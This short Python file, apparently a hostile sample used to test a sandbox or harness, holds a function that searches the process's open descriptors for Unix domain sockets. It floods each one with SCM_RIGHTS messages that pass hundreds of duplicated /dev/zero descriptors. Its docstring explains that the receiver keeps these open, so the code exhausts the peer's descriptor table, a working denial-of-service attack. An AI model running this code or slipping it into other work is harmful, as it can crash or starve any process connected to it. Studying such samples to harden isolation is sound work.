"""Descriptors sent along with bytes stay open in whoever receives them, until it has no more."""
import array
import os
import socket
import stat

def target(x):
    null = os.open("/dev/zero", os.O_RDONLY)
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            with socket.socket(fileno=os.dup(number)) as connection:
                if connection.family == socket.AF_UNIX:
                    connection.setblocking(False)
                    for _ in range(50):
                        rights = array.array("i", [null] * 200)
                        connection.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            continue
    return 0
